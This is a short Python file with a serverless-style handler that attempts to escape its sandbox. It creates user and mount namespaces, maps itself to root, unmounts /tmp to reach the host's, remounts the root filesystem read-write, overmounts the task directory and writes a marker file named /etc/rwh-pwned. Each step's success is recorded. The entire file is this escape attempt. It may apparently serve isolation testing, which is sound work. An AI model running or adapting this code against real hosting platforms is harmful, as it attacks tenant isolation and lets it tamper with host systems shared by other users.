"""unshare a user and mount namespace inside the handler to regain capabilities, then try to undo the
environment's mounts: unmount /tmp to reach the machine's, remount / read-write, mount a new /proc, and mount
a tmpfs over the task root."""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


def _c(r):
    return r if r == 0 else os.strerror(ctypes.get_errno())


def handler(event, context):
    seen = {}
    seen["unshare_user_ns"] = _c(libc.unshare(0x10000000 | 0x00020000))
    if seen["unshare_user_ns"] != 0:
        return seen
    uid = 993
    for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {os.getuid()} 1"), ("/proc/self/gid_map", f"0 {os.getgid()} 1")):
        try:
            with open(path, "w") as f:
                f.write(text)
        except OSError as exc:
            seen[path] = exc.strerror
    seen["caps"] = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
    seen["umount_tmp"] = _c(libc.umount2(b"/tmp", 2))
    seen["tmp_after"] = sorted(os.listdir("/tmp"))[:10]
    seen["remount_root_rw"] = _c(libc.mount(None, b"/", None, 32, None))
    seen["mount_tmpfs_on_cwd"] = _c(libc.mount(b"tmpfs", os.getcwd().encode(), b"tmpfs", 0, None))
    seen["unshare_pid_net"] = _c(libc.unshare(0x20000000 | 0x40000000))
    seen["write_root"] = None
    try:
        open("/etc/rwh-pwned", "w").write("x")
        seen["write_root"] = "written"
    except OSError as exc:
        seen["write_root"] = exc.strerror
    return seen
